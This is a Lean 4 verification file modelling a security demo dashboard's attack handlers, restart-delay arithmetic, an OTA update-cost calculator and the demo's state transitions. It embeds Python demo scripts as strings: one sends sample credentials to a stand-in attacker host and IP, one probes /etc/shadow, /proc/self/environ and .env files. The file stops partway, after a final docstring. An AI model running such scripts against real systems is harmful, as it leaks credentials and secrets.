import Mathlib

/-!
Verification of the Guardian One web demo dashboard.

This file gives a shallow embedding, in Lean 4, of the deterministic
calculations and state-transition rules of the repository's Demo tab and of
the OTA bandwidth/cost calculator, and proves the specification claims
about them.

Source files embedded:
- `src/dashboard/src/tabs/demo/attacks.rs` (attack config and code lookup)
- `src/dashboard/src/tabs/demo/types.rs` (LogEntry, AttackConfig, InstanceState)
- `src/dashboard/src/tabs/demo/component.rs` (demo state, the handlers
  `trigger_attack`, `trigger_leader_crash`, `run_all_attacks`, `reset_demo`)
- `src/dashboard/src/tabs/proof/ota_simulator.rs` (OTA calculator)

Modelling conventions:
- Rust machine integers (`u8`, `u32`, `u64`, `i32`) are modelled as `Nat`/`Int`.
  All values that arise stay far below the respective bit-widths, and the one
  saturation-relevant operation (`.max(500) as u32`) is modelled explicitly.
- `f64` quantities in the OTA calculator are modelled as exact rationals `ℚ`;
  all constants of the source (50, 0.05, 100, 10, 1, 0.001, 0.10, 10.0) and
  the claimed outputs are exactly representable, and the source expressions
  incur no rounding for the claimed instances.
- The browser event loop is single threaded (spec section 5); handlers and
  their scheduled timer callbacks are serialized: each triggered operation is
  modelled as the ordered sequence of atomic mutation blocks the code
  performs (synchronous part, async completion, timer callbacks), run to
  completion before the next operation starts, with every intermediate state
  exposed in the trace.
- Randomness (`js_sys::Math::random`) and real timing measurements are
  modelled as environment parameters passed to each operation.
-/

/-! ## types.rs -/

/-- Log entry for terminal output display (`types.rs` lines 6-10). -/
structure LogEntry where
  level : String
  message : String
deriving DecidableEq, Repr

/-- Attack configuration (`types.rs` lines 12-19). The Rust fields are
`&'static str` / `u32`; modelled as `String` / `Nat`. -/
structure AttackConfig where
  name : String
  restart_ms : Nat
  wasm_trap : String
  wit_func : String
deriving DecidableEq, Repr

/-- WASM instance state for 2oo3 voting visualization (`types.rs` lines 21-26). -/
inductive InstanceState where
  | Healthy
  | Faulty
deriving DecidableEq, Repr

/-! ## attacks.rs -/

/-- The `_` arm of `get_attack_config` (`attacks.rs` lines 47-52). -/
def default_attack_config : AttackConfig :=
  ⟨"Unknown Attack", 1000, "trap", "unknown()"⟩

/-- `get_attack_config` (`attacks.rs` lines 12-54): a `match` on the attack
identifier string; the Rust `match` on string literals is embedded as an
if-chain with the arms in source order. -/
def get_attack_config (attack : String) : AttackConfig :=
  if attack = "bufferOverflow" then
    ⟨"Buffer Overflow", 1800, "out of bounds memory access", "malloc-large()"⟩
  else if attack = "dataExfil" then
    ⟨"Data Exfiltration", 2100, "capability not granted: network", "open-socket()"⟩
  else if attack = "pathTraversal" then
    ⟨"Path Traversal", 1500, "capability not granted: filesystem", "read-file()"⟩
  else if attack = "killLeader" then
    ⟨"Kill Leader", 1500, "leader instance terminated", "(N/A - crash scenario)"⟩
  else if attack = "heartbeatTimeout" then
    ⟨"Heartbeat Timeout", 2000, "leader unresponsive", "(N/A - network scenario)"⟩
  else default_attack_config

/-- `ATTACK_BUFFER_OVERFLOW` (`attacks.rs` lines 174-207): the raw Python
source string, transcribed verbatim (braces and apostrophes written as
hexadecimal escapes). -/
def ATTACK_BUFFER_OVERFLOW : String :=
  "\nimport time\nstart = time.perf_counter()\nresult = None\n\ntry:\n    print(\"[ATTACK] Attempting heap spray (256MB)...\")\n    try:\n        massive = bytearray(256 * 1024 * 1024)\n    except MemoryError:\n        print(\"[INFO] MemoryError on heap spray\")\n    \n    print(\"[ATTACK] Attempting stack buffer overflow...\")\n    fixed = bytearray(64)\n    overflow = b\"A\" * 128\n    \n    for i, b in enumerate(overflow):\n        fixed[i] = b  # Will raise IndexError at i=64\n    \n    result = \"VULNERABLE: Overflow succeeded!\"\n    \nexcept MemoryError as e:\n    elapsed = (time.perf_counter() - start) * 1000\n    result = f\"CRASHED|MemoryError|Unable to allocate 256MB|\x7belapsed:.1f\x7dms\"\n    \nexcept IndexError as e:\n    elapsed = (time.perf_counter() - start) * 1000\n    result = f\"CRASHED|IndexError|buffer[64] out of bounds|\x7belapsed:.1f\x7dms\"\n    \nexcept Exception as e:\n    result = f\"CRASHED|\x7btype(e).__name__\x7d|\x7bstr(e)\x7d\"\n\nresult\n"

/-- `ATTACK_DATA_EXFIL` (`attacks.rs` lines 209-250). -/
def ATTACK_DATA_EXFIL : String :=
  "\nimport time\nstart = time.perf_counter()\nresult = None\n\nsensitive = \x7b\n    \"plc_creds\": \x7b\"user\": \"engineer\", \"pass\": \"S!emens#2026\"\x7d,\n    \"modbus_gw\": \"192.168.40.1:502\",\n    \"api_key\": \"sk-historian-PROD-8x7k\"\n\x7d\nprint(f\"[ATTACK] Collected \x7blen(sensitive)\x7d sensitive objects\")\n\ntry:\n    import socket\n    print(\"[ATTACK] Attempting DNS: exfil.attacker.com\")\n    \n    try:\n        ip = socket.gethostbyname(\"exfil.attacker.com\")\n        result = f\"VULNERABLE|DNS resolved|\x7bip\x7d\"\n    except socket.gaierror as e:\n        print(f\"[INFO] DNS blocked: \x7be\x7d\")\n    \n    print(\"[ATTACK] Attempting socket to 203.0.113.66:443\")\n    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n    sock.settimeout(1.0)\n    sock.connect((\"203.0.113.66\", 443))\n    sock.send(str(sensitive).encode())\n    result = \"VULNERABLE|socket.connect|Data exfiltrated!\"\n    \nexcept socket.gaierror as e:\n    elapsed = (time.perf_counter() - start) * 1000\n    result = f\"BLOCKED|socket.gaierror|DNS resolution failed|\x7belapsed:.1f\x7dms\"\n    \nexcept (socket.error, OSError) as e:\n    elapsed = (time.perf_counter() - start) * 1000\n    result = f\"BLOCKED|socket.error|Network access denied|\x7belapsed:.1f\x7dms\"\n    \nexcept Exception as e:\n    result = f\"ERROR|\x7btype(e).__name__\x7d|\x7bstr(e)\x7d\"\n\nresult\n"

/-- `ATTACK_PATH_TRAVERSAL` (`attacks.rs` lines 252-294). -/
def ATTACK_PATH_TRAVERSAL : String :=
  "\nimport time\nimport os\nstart = time.perf_counter()\nresult = None\n\ntargets = [\n    \"/etc/passwd\", \"/etc/shadow\", \"../../../etc/passwd\",\n    \"/proc/self/environ\", \"/app/.env\", \"../../.git/config\"\n]\nprint(f\"[ATTACK] Probing \x7blen(targets)\x7d paths...\")\n\nreadable = []  # Files successfully read\nexists_only = []  # Files exist but couldn\x27t read\nblocked = []  # Files blocked by sandbox\n\nfor path in targets:\n    try:\n        print(f\"[PROBE] \x7bpath\x7d\")\n        if os.path.exists(path):\n            try:\n                with open(path, \x27r\x27) as f:\n                    content = f.read(64)\n                readable.append(path)\n                print(f\"[EXFIL] Read from \x7bpath\x7d\")\n            except PermissionError:\n                exists_only.append(path)\n        else:\n            blocked.append(path)\n    except OSError as e:\n        blocked.append(path)\n\nelapsed = (time.perf_counter() - start) * 1000\n\nif readable:\n    result = f\"VULNERABLE|FileRead|Read \x7blen(readable)\x7d files!|\x7belapsed:.1f\x7dms\"\nelif exists_only:\n    result = f\"PARTIAL|PermissionError|\x7blen(exists_only)\x7d paths exist but unreadable|\x7belapsed:.1f\x7dms\"\nelse:\n    result = f\"BLOCKED|OSError|All \x7blen(targets)\x7d paths blocked by sandbox|\x7belapsed:.1f\x7dms\"\n\nresult\n"

/-- The fallback string of the `_` arm of `get_attack_code`
(`attacks.rs` line 302). -/
def fallback_attack_code : String :=
  "\x7b\x27status\x27: \x27unknown\x27, \x27error\x27: \x27InvalidAttack\x27, \x27msg\x27: \x27Unknown attack type\x27\x7d"

/-- `get_attack_code` (`attacks.rs` lines 297-304). -/
def get_attack_code (attack : String) : String :=
  if attack = "bufferOverflow" then ATTACK_BUFFER_OVERFLOW
  else if attack = "dataExfil" then ATTACK_DATA_EXFIL
  else if attack = "pathTraversal" then ATTACK_PATH_TRAVERSAL
  else fallback_attack_code

/-! ## Restart-delay computation (component.rs)

`trigger_attack` (component.rs lines 273-282):
```
let base_restart = if pyodide_load_ms.get() > 0.0 { pyodide_load_ms.get() as i32 }
                   else { config.restart_ms as i32 };
let jitter = ((js_sys::Math::random() * 400.0) - 200.0) as i32;
let restart_ms = (base_restart + jitter).max(500) as u32;
```
`trigger_leader_crash` (component.rs lines 468-475) is identical except that
the fallback base is the literal `1500`, not `config.restart_ms`.

The measured Pyodide cold-start (`pyodide_load_ms`) is an `f64` signal cast
to `i32` at use; we model the cast value as an `Int`. The jitter cast lands
in `[-200, 200]`. The final `.max(500) as u32` is value-preserving because
the result is at least 500; we model it with `Int.toNat`. -/

/-- Restart base used by `trigger_attack` (component.rs lines 275-279). -/
def attack_base (pyodide_load_ms : Int) (attack : String) : Int :=
  if 0 < pyodide_load_ms then pyodide_load_ms
  else ((get_attack_config attack).restart_ms : Int)

/-- Restart base used by `trigger_leader_crash` (component.rs lines 469-473):
the fallback is the hard-coded literal `1500`. -/
def leader_base (pyodide_load_ms : Int) : Int :=
  if 0 < pyodide_load_ms then pyodide_load_ms else 1500

/-- `(base_restart + jitter).max(500)` (component.rs lines 282 and 475). -/
def restart_with_jitter (base jitter : Int) : Int :=
  max (base + jitter) 500

/-- The `restart_ms` value computed by `trigger_attack`, after the
`as u32` cast (component.rs line 282). -/
def attack_restart_ms (pyodide_load_ms jitter : Int) (attack : String) : Nat :=
  (restart_with_jitter (attack_base pyodide_load_ms attack) jitter).toNat

/-- The `restart_ms` value computed by `trigger_leader_crash`, after the
`as u32` cast (component.rs line 475). -/
def leader_restart_ms (pyodide_load_ms jitter : Int) : Nat :=
  (restart_with_jitter (leader_base pyodide_load_ms) jitter).toNat

/-- The restart base value as described by the specification claim
("the measured Pyodide cold-start when it is positive, otherwise the
attack's nominal restart_ms"). This definition follows the claim's words,
to be compared against the bases the code actually uses; it coincides with
`attack_base` but not with `leader_base`. -/
def claim_restart_base (pyodide_load_ms : Int) (attack : String) : Int :=
  if 0 < pyodide_load_ms then pyodide_load_ms
  else ((get_attack_config attack).restart_ms : Int)

/-! ## ota_simulator.rs

All `f64` arithmetic is modelled in `ℚ`; every constant below is the exact
value of the corresponding Rust constant. -/

/-- `ETHERNET_SPEED_MBPS = 100.0` (ota_simulator.rs line 12). -/
def ETHERNET_SPEED_MBPS : ℚ := 100

/-- `CELLULAR_SPEED_MBPS = 10.0` (ota_simulator.rs line 13). -/
def CELLULAR_SPEED_MBPS : ℚ := 10

/-- `SATELLITE_SPEED_MBPS = 1.0` (ota_simulator.rs line 14). -/
def SATELLITE_SPEED_MBPS : ℚ := 1

/-- `ETHERNET_COST_PER_MB = 0.001` (ota_simulator.rs line 17). -/
def ETHERNET_COST_PER_MB : ℚ := 1/1000

/-- `CELLULAR_COST_PER_MB = 0.10` (ota_simulator.rs line 18). -/
def CELLULAR_COST_PER_MB : ℚ := 1/10

/-- `SATELLITE_COST_PER_MB = 10.0` (ota_simulator.rs line 19). -/
def SATELLITE_COST_PER_MB : ℚ := 10

/-- `DOCKER_UPDATE_SIZE_MB = 50.0` (ota_simulator.rs line 22). -/
def DOCKER_UPDATE_SIZE_MB : ℚ := 50

/-- `WASM_UPDATE_SIZE_MB = 0.05` (ota_simulator.rs line 23). -/
def WASM_UPDATE_SIZE_MB : ℚ := 1/20

/-- `NetworkType` (ota_simulator.rs lines 29-34). -/
inductive NetworkType where
  | Ethernet
  | Cellular
  | Satellite
deriving DecidableEq, Repr

/-- `NetworkType::speed_mbps` (ota_simulator.rs lines 37-43). -/
def NetworkType.speed_mbps : NetworkType → ℚ
  | .Ethernet => ETHERNET_SPEED_MBPS
  | .Cellular => CELLULAR_SPEED_MBPS
  | .Satellite => SATELLITE_SPEED_MBPS

/-- `NetworkType::cost_per_mb` (ota_simulator.rs lines 45-51). -/
def NetworkType.cost_per_mb : NetworkType → ℚ
  | .Ethernet => ETHERNET_COST_PER_MB
  | .Cellular => CELLULAR_COST_PER_MB
  | .Satellite => SATELLITE_COST_PER_MB

/-- `calc_download_time_secs` (ota_simulator.rs lines 59-63). -/
def calc_download_time_secs (size_mb speed_mbps : ℚ) : ℚ :=
  (size_mb * 8) / speed_mbps

/-- `docker_time_per_device` closure (ota_simulator.rs lines 103-105). -/
def docker_time_per_device (n : NetworkType) : ℚ :=
  calc_download_time_secs DOCKER_UPDATE_SIZE_MB n.speed_mbps

/-- `wasm_time_per_device` closure (ota_simulator.rs lines 107-109). -/
def wasm_time_per_device (n : NetworkType) : ℚ :=
  calc_download_time_secs WASM_UPDATE_SIZE_MB n.speed_mbps

/-- `docker_total_bandwidth_mb` closure (ota_simulator.rs lines 111-113);
the `u32` fleet size cast to `f64` is modelled as a rational argument. -/
def docker_total_bandwidth_mb (fleet_size : ℚ) : ℚ :=
  DOCKER_UPDATE_SIZE_MB * fleet_size

/-- `wasm_total_bandwidth_mb` closure (ota_simulator.rs lines 115-117). -/
def wasm_total_bandwidth_mb (fleet_size : ℚ) : ℚ :=
  WASM_UPDATE_SIZE_MB * fleet_size

/-- `docker_cost` closure (ota_simulator.rs lines 119-121). -/
def docker_cost (fleet_size : ℚ) (n : NetworkType) : ℚ :=
  docker_total_bandwidth_mb fleet_size * n.cost_per_mb

/-- `wasm_cost` closure (ota_simulator.rs lines 123-125). -/
def wasm_cost (fleet_size : ℚ) (n : NetworkType) : ℚ :=
  wasm_total_bandwidth_mb fleet_size * n.cost_per_mb

/-- `yearly_savings` closure (ota_simulator.rs lines 127-130): 12 update
cycles per year. -/
def yearly_savings (fleet_size : ℚ) (n : NetworkType) : ℚ :=
  (docker_cost fleet_size n - wasm_cost fleet_size n) * 12

/-! ## Demo state (component.rs)

The reactive signals of the `Demo` component that the claims concern,
gathered into one record. Signals excluded (measurement caches, the sensor
comparison, the WIT modal) are touched by none of the modelled handlers. -/

/-- A fixed 3-slot array, as used for the instance and worker arrays. -/
structure Vec3 (α : Type) where
  v0 : α
  v1 : α
  v2 : α
deriving DecidableEq, Repr

/-- All three slots the same value (`[x; 3]` / `[x, x, x]` in Rust). -/
def Vec3.const (a : α) : Vec3 α := ⟨a, a, a⟩

/-- `v[i] = a` for `i : Nat`. The Rust code only ever indexes with values
in `0..2` (worker/instance ids reduced mod 3); indexing out of bounds would
panic in Rust, and this embedding maps any index `≥ 2` to the last slot,
which is never exercised from reachable states. -/
def Vec3.setN (v : Vec3 α) (i : Nat) (a : α) : Vec3 α :=
  if i = 0 then { v with v0 := a }
  else if i = 1 then { v with v1 := a }
  else { v with v2 := a }

/-- Number of slots satisfying a decidable predicate. -/
def Vec3.countP (v : Vec3 α) (p : α → Prop) [DecidablePred p] : Nat :=
  (if p v.v0 then 1 else 0) + (if p v.v1 then 1 else 0) + (if p v.v2 then 1 else 0)

/-- The Demo component state: one field per `create_signal` of
component.rs (lines 38-80) that the modelled handlers read or write. -/
structure DemoState where
  python_processed : Nat
  python_crashed : Nat
  python_downtime_ms : Nat
  wasm_processed : Nat
  wasm_rejected : Nat
  python_logs : List LogEntry
  wasm_logs : List LogEntry
  instance_states : Vec3 InstanceState
  faulty_instance : Option Nat
  leader_id : Nat
  python_workers : Vec3 Bool
  python_active_worker : Nat
  python_restarting : Bool
  is_running : Bool
  running_all : Bool
  selected_attack : String
deriving DecidableEq, Repr

/-- The initial signal values (component.rs lines 38-80). -/
def init_state : DemoState where
  python_processed := 0
  python_crashed := 0
  python_downtime_ms := 0
  wasm_processed := 0
  wasm_rejected := 0
  python_logs := []
  wasm_logs := []
  instance_states := Vec3.const InstanceState.Healthy
  faulty_instance := none
  leader_id := 0
  python_workers := Vec3.const true
  python_active_worker := 0
  python_restarting := false
  is_running := false
  running_all := false
  selected_attack := "bufferOverflow"

/-- Environment of one `trigger_attack` run: the random draws, the measured
timings (as the strings the code formats them to) and the Pyodide result.
`faulty_idx` is `(Math.random() * 3.0) as u8`, hence in `{0, 1, 2}`. -/
structure AttackEnv where
  pyodide_load_ms : Int
  jitter : Int
  faulty_idx : Nat
  py_ok : Bool
  py_result : String
  py_elapsed : String
  err_str : String
  sensor_val : String
  rebuild_ms : String
  instantiate_ms : String
deriving Repr

/-- Environment of one `trigger_leader_crash` run. -/
structure LeaderEnv where
  pyodide_load_ms : Int
  jitter : Int
  election_ms : String
deriving Repr

/-- The two seed log lines written when the python terminal is empty
(component.rs lines 248-251). -/
def init_python_logs : List LogEntry :=
  [⟨"info", "$ python gateway.py --workers 3"⟩,
   ⟨"success", "[OK] Worker pool: W0 active, W1/W2 standby"⟩]

/-- The three seed log lines written when the wasm terminal is empty
(component.rs lines 256-260). -/
def init_wasm_logs (instantiate_ms : String) : List LogEntry :=
  [⟨"info", "$ wasmtime gateway.wasm --mode 2oo3"⟩,
   ⟨"success", "[OK] 2oo3 TMR: I0, I1, I2 initialized"⟩,
   ⟨"info", "[METRICS] Instantiate: " ++ instantiate_ms ++ "ms (real)"⟩]

/-! ### trigger_attack (component.rs lines 236-428)

The handler body is split into its atomic mutation blocks, serialized in
the order the event loop runs them: the synchronous part of the click
handler (`attack_sync`), the Pyodide completion (`attack_py_done`), the
100 ms wasm timeout (`attack_wasm_mark`), the wasm rebuild completion
(`attack_wasm_rebuild`) and the python respawn timer whose duration is
the computed `restart_ms` (`attack_py_timer`). The relative order of the
Pyodide completion and the wasm timeout is best-effort in the code (spec
section 5); they touch disjoint fields apart from appending to different
logs, and one fixed order is used here. -/

/-- Synchronous part of `trigger_attack` after the busy-flag guard
(component.rs lines 239-271): set the busy flag (outside run-all mode),
seed empty terminals, and append the two incoming-attack lines. -/
def attack_sync (a : String) (e : AttackEnv) (s : DemoState) : DemoState :=
  let config := get_attack_config a
  let py0 := if s.python_logs = [] then init_python_logs else s.python_logs
  let pyProc := if s.python_logs = [] then 5 else s.python_processed
  let wa0 := if s.wasm_logs = [] then init_wasm_logs e.instantiate_ms else s.wasm_logs
  let waProc := if s.wasm_logs = [] then 5 else s.wasm_processed
  { s with
      is_running := if !s.running_all then true else s.is_running,
      python_logs := py0 ++
        [⟨"warn", "[ATTACK] Incoming: " ++ config.name⟩,
         ⟨"info", "[EXEC] Running real Python via Pyodide..."⟩],
      python_processed := pyProc,
      wasm_logs := wa0 ++ [⟨"warn", "[ATTACK] Incoming: " ++ config.name⟩],
      wasm_processed := waProc }

/-- Pyodide completion of `trigger_attack` (component.rs lines 288-359):
append the crash narration (parsing the pipe-delimited result on success,
or the truncated raw error on failure), fail the active worker over to the
next slot, and increment the crash counter. `cur` is the active-worker id
captured at click time. -/
def attack_py_done (cur : Nat) (e : AttackEnv) (s : DemoState) : DemoState :=
  let next_worker := (cur + 1) % 3
  let failover : LogEntry :=
    ⟨"warn", "[POOL] Failing over to W" ++ toString next_worker ++ " (standby → active)"⟩
  let entries :=
    if e.py_ok then
      let parts := e.py_result.splitOn ("|")
      let status := if 3 ≤ parts.length then parts.getD 0 ("") else "CRASHED"
      let error_type := if 3 ≤ parts.length then parts.getD 1 ("") else "Exception"
      let message := if 3 ≤ parts.length then parts.getD 2 ("") else e.py_result
      [(⟨"error", "[" ++ status ++ "] " ++ error_type ++ ": " ++ message⟩ : LogEntry),
       ⟨"error", "💥 W" ++ toString cur ++ " CRASHED after " ++ e.py_elapsed ++
         "ms - real Python exception!"⟩,
       failover]
    else
      [(⟨"error", "[FATAL] Uncaught: " ++ e.err_str.take 80⟩ : LogEntry),
       ⟨"error", "💥 W" ++ toString cur ++ " CRASHED - process terminated!"⟩,
       failover]
  { s with
      python_logs := s.python_logs ++ entries,
      python_workers := (Vec3.const true).setN cur false,
      python_active_worker := next_worker,
      python_restarting := true,
      python_crashed := s.python_crashed + 1 }

/-- The 100 ms wasm timeout of `trigger_attack` (component.rs lines
385-409): mark a random instance faulty, narrate the 2oo3 vote, and count
the rejection. -/
def attack_wasm_mark (a : String) (e : AttackEnv) (s : DemoState) : DemoState :=
  let config := get_attack_config a
  let idx := e.faulty_idx
  let healthy := (List.range 3).filter (fun i => i ≠ idx)
  let h0 := healthy.getD 0 0
  let h1 := healthy.getD 1 0
  { s with
      faulty_instance := some idx,
      instance_states := s.instance_states.setN idx InstanceState.Faulty,
      wasm_logs := s.wasm_logs ++
        [⟨"warn", "[TRAP] I" ++ toString idx ++ ": " ++ config.wasm_trap⟩,
         ⟨"info", "[WIT] attack-surface." ++ config.wit_func ++
           " blocked → capability not imported"⟩,
         ⟨"info", "[OUT] I" ++ toString idx ++ ": TRAP | I" ++ toString h0 ++ ": " ++
           e.sensor_val ++ "°C | I" ++ toString h1 ++ ": " ++ e.sensor_val ++ "°C"⟩,
         ⟨"success", "[VOTE] 2/3 outputs agree (" ++ e.sensor_val ++
           "°C) - using majority value"⟩,
         ⟨"success", "[OK] Zero downtime - continues with valid output"⟩],
      wasm_rejected := s.wasm_rejected + 1 }

/-- The wasm rebuild completion of `trigger_attack` (component.rs lines
412-426): restore the marked instance. -/
def attack_wasm_rebuild (e : AttackEnv) (s : DemoState) : DemoState :=
  let idx := e.faulty_idx
  { s with
      instance_states := s.instance_states.setN idx InstanceState.Healthy,
      faulty_instance := none,
      wasm_logs := s.wasm_logs ++
        [⟨"success", "[OK] I" ++ toString idx ++ " rebuilt in " ++ e.rebuild_ms ++
          "ms (real) - pool healthy"⟩] }

/-- The python respawn timer of `trigger_attack` (component.rs lines
363-379), firing `d = restart_ms` after the crash: restore the pool, add
the delay to the downtime accumulator, and release the busy flag outside
run-all mode. `cur` is the worker id captured at click time. -/
def attack_py_timer (cur d : Nat) (s : DemoState) : DemoState :=
  { s with
      python_workers := Vec3.const true,
      python_restarting := false,
      python_downtime_ms := s.python_downtime_ms + d,
      python_logs := s.python_logs ++
        [⟨"success", "[OK] W" ++ toString cur ++ " respawned (" ++ toString d ++
          "ms) - pool restored"⟩,
         ⟨"info", "[VOTE] 3/3 workers ready - voting now possible"⟩],
      is_running := if !s.running_all then false else s.is_running }

/-- `trigger_attack` run to completion (component.rs lines 236-428),
timer callbacks included. The busy-flag guard is line 238. -/
def trigger_attack_run (a : String) (e : AttackEnv) (s : DemoState) : DemoState :=
  if s.is_running && !s.running_all then s
  else
    let cur := s.python_active_worker
    let d := attack_restart_ms e.pyodide_load_ms e.jitter a
    attack_py_timer cur d
      (attack_wasm_rebuild e
        (attack_wasm_mark a e
          (attack_py_done cur e
            (attack_sync a e s))))

/-! ### trigger_leader_crash (component.rs lines 433-552) -/

/-- Synchronous part of `trigger_leader_crash` after the busy-flag guard
(component.rs lines 436-517): narrate the leader crash, kill the current
python leader, accrue the restart delay into downtime and bump the crash
counter immediately, and mark the current wasm leader faulty. `cur` is the
python active worker, `oldL` the wasm leader id, `d` the computed
`restart_ms`, all captured at click time. -/
def leader_sync (a : String) (cur oldL d : Nat) (s : DemoState) : DemoState :=
  let is_timeout := a = "heartbeatTimeout"
  { s with
      is_running := if !s.running_all then true else s.is_running,
      python_logs := s.python_logs ++
        [⟨"error", "[RAFT] Leader W" ++ toString cur ++ " " ++
          (if is_timeout then "unresponsive" else "crashed") ++ "!"⟩,
         ⟨"warn", "[RAFT] Starting election..."⟩,
         ⟨"error", "[RAFT] Election BLOCKED — need leader respawn first"⟩],
      python_workers := s.python_workers.setN cur false,
      python_restarting := true,
      python_downtime_ms := s.python_downtime_ms + d,
      python_crashed := s.python_crashed + 1,
      instance_states := s.instance_states.setN oldL InstanceState.Faulty,
      faulty_instance := some oldL,
      wasm_logs := s.wasm_logs ++
        [⟨"error", "[RAFT] Leader I" ++ toString oldL ++ " " ++
          (if is_timeout then "missed heartbeat" else "crashed") ++ "!"⟩,
         ⟨"info", "[RAFT] Election started..."⟩] }

/-- The wasm election completion of `trigger_leader_crash` (component.rs
lines 520-535): install the new leader and count the rejection. -/
def leader_election (newL : Nat) (e : LeaderEnv) (s : DemoState) : DemoState :=
  { s with
      leader_id := newL,
      wasm_rejected := s.wasm_rejected + 1,
      wasm_logs := s.wasm_logs ++
        [⟨"success", "[RAFT] I" ++ toString newL ++ " elected as new leader in " ++
          e.election_ms ++ "ms"⟩,
         ⟨"success", "[OK] Zero downtime — new leader accepting writes"⟩] }

/-- The 50 ms rebuild timer of `trigger_leader_crash` (component.rs lines
538-550): restore the old leader as follower. -/
def leader_rebuild (oldL : Nat) (s : DemoState) : DemoState :=
  { s with
      instance_states := s.instance_states.setN oldL InstanceState.Healthy,
      faulty_instance := none,
      wasm_logs := s.wasm_logs ++
        [⟨"info", "[OK] I" ++ toString oldL ++ " rebuilt as follower — pool healthy"⟩] }

/-- The python respawn timer of `trigger_leader_crash` (component.rs lines
480-493): restore the pool, install the next python leader, and release the
busy flag outside run-all mode. -/
def leader_py_timer (cur next d : Nat) (s : DemoState) : DemoState :=
  { s with
      python_workers := Vec3.const true,
      python_active_worker := next,
      python_restarting := false,
      python_logs := s.python_logs ++
        [⟨"success", "[OK] W" ++ toString cur ++ " respawned (" ++ toString d ++
          "ms) — W" ++ toString next ++ " elected as leader"⟩],
      is_running := if !s.running_all then false else s.is_running }

/-- `trigger_leader_crash` run to completion (component.rs lines 433-552),
timer callbacks included. The busy-flag guard is line 435. The python
respawn timer (duration `restart_ms ≥ 500` ms) fires after the sub-ms wasm
election and its 50 ms rebuild timer. -/
def trigger_leader_crash_run (a : String) (e : LeaderEnv) (s : DemoState) : DemoState :=
  if s.is_running && !s.running_all then s
  else
    let cur := s.python_active_worker
    let oldL := s.leader_id
    let d := leader_restart_ms e.pyodide_load_ms e.jitter
    leader_py_timer cur ((cur + 1) % 3) d
      (leader_rebuild oldL
        (leader_election ((oldL + 1) % 3) e
          (leader_sync a cur oldL d s)))

/-! ### reset_demo and run_all_attacks -/

/-- `reset_demo` (component.rs lines 602-618). It does not touch
`selected_attack`. -/
def reset_demo (s : DemoState) : DemoState :=
  { s with
      python_logs := [],
      wasm_logs := [],
      python_processed := 0,
      python_crashed := 0,
      python_downtime_ms := 0,
      wasm_processed := 0,
      wasm_rejected := 0,
      instance_states := Vec3.const InstanceState.Healthy,
      faulty_instance := none,
      leader_id := 0,
      python_workers := Vec3.const true,
      python_active_worker := 0,
      python_restarting := false,
      is_running := false,
      running_all := false }

/-- `run_all_attacks` run to completion (component.rs lines 557-597): after
the busy guard (line 558), set both flags, fire the five staged attacks in
order (each preceded by its `set_selected_attack`), then clear both flags
on the final 20.5 s timer. -/
def run_all_attacks_run (e1 e2 e3 : AttackEnv) (e4 e5 : LeaderEnv)
    (s : DemoState) : DemoState :=
  if s.is_running || s.running_all then s
  else
    let s0 := { s with is_running := true, running_all := true }
    let s1 := trigger_attack_run ("bufferOverflow") e1
      { s0 with selected_attack := "bufferOverflow" }
    let s2 := trigger_attack_run ("dataExfil") e2
      { s1 with selected_attack := "dataExfil" }
    let s3 := trigger_attack_run ("pathTraversal") e3
      { s2 with selected_attack := "pathTraversal" }
    let s4 := trigger_leader_crash_run ("killLeader") e4
      { s3 with selected_attack := "killLeader" }
    let s5 := trigger_leader_crash_run ("heartbeatTimeout") e5
      { s4 with selected_attack := "heartbeatTimeout" }
    { s5 with running_all := false, is_running := false }

/-! ### Event sequences and traces -/

/-- One user-triggered demo event (the attack buttons set
`selected_attack` and then invoke their handler; Reset invokes
`reset_demo`). -/
inductive Op where
  | securityAttack (a : String) (e : AttackEnv)
  | leaderCrash (a : String) (e : LeaderEnv)
  | reset
deriving Repr

/-- Execute one event to completion. -/
def run_op : Op → DemoState → DemoState
  | .securityAttack a e, s => trigger_attack_run a e { s with selected_attack := a }
  | .leaderCrash a e, s => trigger_leader_crash_run a e { s with selected_attack := a }
  | .reset, s => reset_demo s

/-- The states an event steps through, one per atomic mutation block, the
final state last. A guarded-out handler contributes only the invocation
state. -/
def op_states : Op → DemoState → List DemoState
  | .securityAttack a e, s₀ =>
      let s := { s₀ with selected_attack := a }
      if s.is_running && !s.running_all then [s]
      else
        let cur := s.python_active_worker
        let d := attack_restart_ms e.pyodide_load_ms e.jitter a
        let t1 := attack_sync a e s
        let t2 := attack_py_done cur e t1
        let t3 := attack_wasm_mark a e t2
        let t4 := attack_wasm_rebuild e t3
        [s, t1, t2, t3, t4, attack_py_timer cur d t4]
  | .leaderCrash a e, s₀ =>
      let s := { s₀ with selected_attack := a }
      if s.is_running && !s.running_all then [s]
      else
        let cur := s.python_active_worker
        let oldL := s.leader_id
        let d := leader_restart_ms e.pyodide_load_ms e.jitter
        let t1 := leader_sync a cur oldL d s
        let t2 := leader_election ((oldL + 1) % 3) e t1
        let t3 := leader_rebuild oldL t2
        [s, t1, t2, t3, leader_py_timer cur ((cur + 1) % 3) d t3]
  | .reset, s => [reset_demo s]

/-- Execute a sequence of events. -/
def run_ops (ops : List Op) (s : DemoState) : DemoState :=
  ops.foldl (fun t o => run_op o t) s

/-- All states passed through while executing a sequence of events,
starting state included. -/
def trace_states : List Op → DemoState → List DemoState
  | [], s => [s]
  | o :: rest, s => op_states o s ++ trace_states rest (run_op o s)

/-- Number of instances marked `Faulty` in the 3-slot wasm instance array. -/
def faulty_count (s : DemoState) : Nat :=
  s.instance_states.countP (· = InstanceState.Faulty)

/-- All three wasm instances healthy. -/
def all_healthy (s : DemoState) : Prop :=
  s.instance_states = Vec3.const InstanceState.Healthy

/-- The WASM-side downtime stat as rendered by the stats panel: the
component defines no wasm downtime signal at all and hard-codes the
string `"0ms"` (component.rs lines 65-67 and 825-829). -/
def wasm_downtime_stat (_s : DemoState) : String := "0ms"

/-- The numeric value the rendered wasm downtime stat displays. -/
def wasm_downtime_ms (_s : DemoState) : Nat := 0

/-- A concrete attack environment used by concrete instantiations: Pyodide
not yet loaded, zero jitter draw, instance 0 drawn faulty, a successful
Pyodide run returning a parseable pipe-delimited result. -/
def sample_attack_env : AttackEnv where
  pyodide_load_ms := 0
  jitter := 0
  faulty_idx := 0
  py_ok := true
  py_result := "CRASHED|IndexError|buffer[64] out of bounds|12.0ms"
  py_elapsed := "12.0"
  err_str := ""
  sensor_val := "42.0"
  rebuild_ms := "0.04"
  instantiate_ms := "0.04"

/-- A concrete leader-crash environment: Pyodide not yet loaded, zero
jitter draw. -/
